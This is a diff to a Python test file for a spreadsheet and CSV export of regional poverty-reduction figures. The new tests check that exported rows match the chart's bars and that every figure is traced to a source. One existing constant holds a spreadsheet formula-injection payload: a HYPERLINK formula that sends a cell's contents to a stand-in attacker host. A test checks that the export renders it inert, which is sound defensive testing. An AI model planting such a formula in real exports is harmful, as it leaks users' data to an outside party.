@@ -14,7 +14,7 @@ from sqlalchemy import update
 from db.models import Figure
 from db.session import make_engine, session_factory
 from export.chart_data import build_chart
-from export.tables import csv_bytes, neutralise, xlsx_bytes
+from export.tables import columns_of, csv_bytes, neutralise, xlsx_bytes
 
 DINGXI, REDUCED = "621100", "poor_population_reduced"
 INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
@@ -104,3 +104,60 @@ def test_injected_hyperlink_note_comes_out_inert(db_url):
     wb = openpyxl.load_workbook(io.BytesIO(raw))
     values = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
     assert "'" + INJECTED in values and INJECTED not in values
+
+
+@pytest.fixture(scope="module")
+def dingxi_counties(seed_db_url):
+    with session_factory(make_engine(seed_db_url))() as session:
+        return build_chart(session, DINGXI, "counties_exited", chart="children")
+
+
+def children_bars(export) -> dict[str, tuple]:
+    """(plan, actual) bar lengths per sub-region label, read from the figure as drawn."""
+    plan, actual = export.figure["data"]
+    assert plan["y"] == actual["y"]
+    return {label: (p, a) for label, p, a in zip(plan["y"], plan["x"], actual["x"], strict=True)}
+
+
+def test_children_csv_reads_back_equal_to_the_sub_region_bars(dingxi_counties):
+    export = dingxi_counties
+    data = csv_bytes(export.rows, columns_of(export))
+    frame = pd.read_csv(
+        io.BytesIO(data),
+        encoding="utf-8-sig",
+        dtype={"地区代码 region code": str, "实际数据编号 actual figure ids": str},
+    )
+    read = {r["地区 Region"]: (r["目标 Target"], r["实际 Actual"]) for _, r in frame.iterrows()}
+    assert read == children_bars(export)
+    assert list(frame["地区 Region"]) == export.figure["data"][0]["y"], "rows in the chart's order"
+    assert len(frame) == 7 and set(frame["地区代码 region code"].str[:4]) == {"6211"}
+    assert frame["状态 Status"].str.len().min() > 0 and frame["来源 Source"].str.len().min() > 0
+    assert "✖ 落后" in set(frame["状态 Status"]), "安定区 planned 2016 and exited 2020: behind, in words"
+
+
+def test_children_xlsx_has_the_bars_and_every_figure_behind_each_total(dingxi_counties, seed_db_url):
+    export = dingxi_counties
+    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(export)))
+    assert wb.sheetnames == ["数据 Data", "来源 Sources", "说明 About"]
+    data = wb["数据 Data"]
+    head = [c.value for c in data[1]]
+    rows = [dict(zip(head, (c.value for c in r), strict=True)) for r in data.iter_rows(min_row=2)]
+    assert {r["地区 Region"]: (r["目标 Target"], r["实际 Actual"]) for r in rows} == children_bars(export)
+    listed = {
+        int(i)
+        for r in rows
+        for k in ("目标数据编号 target figure ids", "实际数据编号 actual figure ids")
+        for i in str(r[k] or "").split(",")
+        if i
+    }
+    sources = wb["来源 Sources"]
+    src_head = [c.value for c in sources[1]]
+    src = [dict(zip(src_head, (c.value for c in r), strict=True)) for r in sources.iter_rows(min_row=2)]
+    assert {s["数据编号 figure id"] for s in src} == listed, (
+        "the sources sheet lists exactly the figures behind the bars"
+    )
+    assert all(s["原文 Quote"] for s in src) and any(str(s["网址 URL"]).startswith("https://") for s in src)
+    by_id = {s["数据编号 figure id"]: s for s in src}
+    for r in rows:  # each child's figures are its own (or its sub-regions'), so its sources trace
+        ids = [int(i) for i in str(r["实际数据编号 actual figure ids"] or "").split(",") if i]
+        assert ids and all(by_id[i]["地区代码 region code"] == r["地区代码 region code"] for i in ids)
